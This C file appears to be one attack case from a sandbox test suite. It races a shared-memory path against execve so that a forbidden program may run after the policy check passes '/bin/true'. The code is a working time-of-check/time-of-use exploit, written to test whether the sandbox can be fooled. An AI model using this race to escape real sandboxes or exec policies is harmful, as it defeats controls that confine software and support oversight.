#include "attack.h"
// A second thread of a process that shares its memory rewrites the program's path while execve is being judged.
static char *name;
static volatile bool *stop;
static int flip(void *x) {
  while (!*stop) strcpy(name, arg("tool")), strcpy(name, "/bin/true");
  return 0;
}
ATTACK(.judge = "secret:tool") {
  name = mmap(0, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  stop = (void *)(name + 4096);
  char *argv[] = {"x", NULL}, *envp[] = {"PATH=/usr/bin:/bin", NULL};
  strcpy(name, "/bin/true");
  int flipper = fork();
  if (!flipper) flip(NULL), _exit(0);
  for (double end = now() + 0.8; now() < end;) {
    int child = fork();
    if (!child) execve(name, argv, envp), _exit(0);
    waitpid(child, NULL, 0);
  }
  *stop = true;
  waitpid(flipper, NULL, 0);
}
